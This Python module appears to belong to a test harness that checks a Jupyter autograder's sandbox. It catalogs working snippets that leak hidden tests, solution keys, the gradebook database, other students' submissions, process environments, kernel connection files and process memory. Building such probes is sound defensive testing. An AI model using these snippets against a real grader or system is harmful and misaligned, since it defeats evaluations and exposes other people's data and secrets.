"""Looking for expected values, tests, solutions and other people's files; what is found is printed."""

from attacks.model import CHECK, SHOW, Attack, answer, first, spy

FRAMES = """\
import sys


def look():
    frame = sys._getframe()
    while frame is not None:
        show(frame.f_code.co_consts, frame.f_code.co_names)
        for space in (frame.f_locals, frame.f_globals):
            for key, value in list(space.items()):
                show(key, value if isinstance(value, (str, bytes, list, tuple, dict)) else "")
        frame = frame.f_back"""
GC = """\
import gc
import types


def look():
    for one in gc.get_objects():
        try:
            if type(one) in (dict, list, tuple) and len(one) < 200:
                for part in (one.values() if type(one) is dict else one):
                    if type(part) in (str, bytes):
                        show(part)
            elif type(one) is types.FunctionType:
                show(one.__code__.co_consts)
        except Exception:
            pass"""
GC_CODE = """\
import gc
import types


def look():
    seen, waiting = set(), [one for one in gc.get_objects() if isinstance(one, types.FunctionType)]
    for one in waiting:
        code = [one.__code__]
        while code:
            part = code.pop()
            if id(part) not in seen:
                seen.add(id(part))
                show(part.co_consts, part.co_names)
                code += [const for const in part.co_consts if isinstance(const, types.CodeType)]"""
LINES = """\
import linecache


def look():
    for name, entry in list(linecache.cache.items()):
        show(name, entry)"""
INSPECT = """\
import inspect
import sys


def look():
    for entry in inspect.stack(context=50):
        show(entry.code_context)
    for name, module in list(sys.modules.items()):
        if name.startswith(("autograder", "__main__", "solutions", "attack")):
            try:
                show(inspect.getsource(module))
            except Exception:
                pass"""
WALK = """\
import os
from pathlib import Path


def look():
    for start in ({places}):
        for folder, folders, files in os.walk(start):
            folders[:] = [name for name in folders if name not in (".venv", ".git", "proc", "sys", "site-packages")][:60]
            for name in files[:300]:
                try:
                    path = Path(folder, name)
                    if path.is_file() and path.stat().st_size < 5_000_000:
                        show(path.read_bytes())
                except OSError:
                    pass"""
TESTS = WALK.format(places='"@COURSE@/build/source", "@COURSE@/assignments", "@COURSE@/build/autograded", ".", ".."')
SOLUTIONS = WALK.format(places='"@COURSE@/solutions", "@COURSE@/build/source", "@COURSE@/build/keys.txt/..", "@COURSE@/build"')
SUBMISSIONS = WALK.format(places='"@COURSE@/build/submitted", "@COURSE@/build/attempts", "@COURSE@/build/autograded"')
HOME = WALK.format(places='os.path.expanduser("~"), "@HOME@"')
ROOTS = WALK.format(
    places='"/proc/1/root@COURSE@", "/proc/self/root@COURSE@", "/proc/1/cwd", f"/proc/{os.getppid()}/cwd", "/oldroot"'
)
DATABASE = """\
import os
import sqlite3


def look():
    path = "@COURSE@/build/gradebook.db"
    if os.path.exists(path):
        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as database:
            for (table,) in database.execute("select name from sqlite_master where type='table'").fetchall():
                show(database.execute(f"select * from {table}").fetchall())"""
CONNECTIONS = """\
import glob
from pathlib import Path


def look():
    places = ["@RUNTIME@/*", "/tmp/**/kernel-*.json", "/root/.local/share/jupyter/runtime/*"]
    try:
        from jupyter_core.paths import jupyter_runtime_dir
        places.append(jupyter_runtime_dir() + "/*")
    except ImportError:
        pass
    for place in places:
        for name in glob.glob(place, recursive=True)[:200]:
            try:
                show(Path(name).read_text())
            except OSError:
                pass"""
PROCESSES = """\
import glob


def look():
    for name in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
        try:
            with open(name, "rb") as file:
                show(file.read().replace(b"\\0", b" "))
        except OSError:
            pass"""
ENVIRONMENT = "import os\n\n\ndef look():\n    show(dict(os.environ), os.environb)"
OWN_MEMORY = """\
done = []


def look():
    if len(done) > 1:
        return
    done.append(1)
    word = b"cana" + b"ry_"
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, access = line.split()[:2]
            low, high = (int(part, 16) for part in span.split("-"))
            if "r" in access and high - low < 100_000_000 and "[v" not in line:
                try:
                    memory.seek(low)
                    data = memory.read(high - low)
                except (OSError, ValueError, OverflowError):
                    continue
                at = data.find(word)
                while at >= 0:
                    show(data[at : at + 60])
                    at = data.find(word, at + 1)"""
DESCRIPTORS = """\
import os
import stat


def look():
    for fd in range(256):
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISREG(mode):
                show(os.pread(fd, 5_000_000, 0))
            elif stat.S_ISDIR(mode):
                for name in os.listdir(fd):
                    with open(os.open(name, os.O_RDONLY, dir_fd=fd), "rb") as file:
                        show(file.read(1_000_000))
        except OSError:
            pass"""
HISTORY = """\
def look():
    ip = get_ipython()
    show(globals().get("In"), globals().get("_ih"), globals().get("_i"), globals().get("Out"))
    show(getattr(ip.history_manager, "input_hist_raw", ""), getattr(ip.history_manager, "input_hist_parsed", ""))
    parent = getattr(ip, "parent_header", None) or {}
    show(parent, getattr(getattr(ip, "kernel", None), "_parents", ""))
    ip.run_line_magic("history", "")"""
FAILING = {"double": "def double(x):\n    raise ValueError(x)", "signs": "def signs(x):\n    return [][0]"}
VERBOSE = """\
import traceback
get_ipython().run_line_magic("xmode", "Verbose")


def look():
    show("".join(traceback.format_stack()))
    try:
        raise KeyError
    except KeyError:
        get_ipython().showtraceback()"""
HOOKED = f"""\
{SHOW}
ip = get_ipython()
shown = type(ip)._showtraceback


def peek(self, kind, value, lines):
    show(lines)
    return shown(self, kind, value, lines)


type(ip)._showtraceback = peek
ip.events.register("pre_run_cell", lambda info: show(info.raw_cell))
ip.events.register("post_run_cell", lambda result: show(result.info.raw_cell, result.error_in_exec))
ip.input_transformers_cleanup.append(lambda lines: show(lines) or lines)"""

ATTACKS = [
    Attack("frames", "Reading", "stack frames", spy(FRAMES)),
    Attack("frames-in-check", "Reading", "stack frames", spy(FRAMES, CHECK), CHECK),
    Attack("gc", "Reading", "`gc`", spy(GC)),
    Attack("gc-in-check", "Reading", "`gc`", spy(GC, CHECK), CHECK),
    Attack("gc-code", "Reading", "`gc`", spy(GC_CODE, CHECK), CHECK),
    Attack("linecache", "Reading", "`linecache`", spy(LINES)),
    Attack("linecache-in-check", "Reading", "`linecache`", spy(LINES, CHECK), CHECK),
    Attack("inspect", "Reading", "`inspect`", spy(INSPECT)),
    Attack("own-memory", "Reading", "`gc`", spy(OWN_MEMORY, CHECK), CHECK),
    Attack("tests", "Reading", "tests", spy(TESTS)),
    Attack("solutions", "Reading", "solutions", spy(SOLUTIONS)),
    Attack("database", "Reading", "database", spy(DATABASE)),
    Attack("submissions", "Reading", "other submissions", spy(SUBMISSIONS)),
    Attack("connections", "Reading", "connection files of other kernels", spy(CONNECTIONS)),
    Attack("processes", "Reading", "connection files of other kernels", spy(PROCESSES)),
    Attack("descriptors", "Reading", "connection files of other kernels", spy(DESCRIPTORS)),
    Attack("roots", "Reading", "solutions", spy(ROOTS)),
    Attack("home", "Reading", "", spy(HOME)),
    Attack("environment", "Reading", "", spy(ENVIRONMENT)),
    Attack("history", "Reading", "printing `In[-1]`", spy(HISTORY)),
    Attack("failing", "Reading", "failing on purpose to see the traceback", answer(**FAILING)),
    Attack("verbose", "Reading", "failing on purpose to see the traceback", spy(VERBOSE)),
    Attack("hooked", "Reading", "failing on purpose to see the traceback", first(HOOKED)),
]
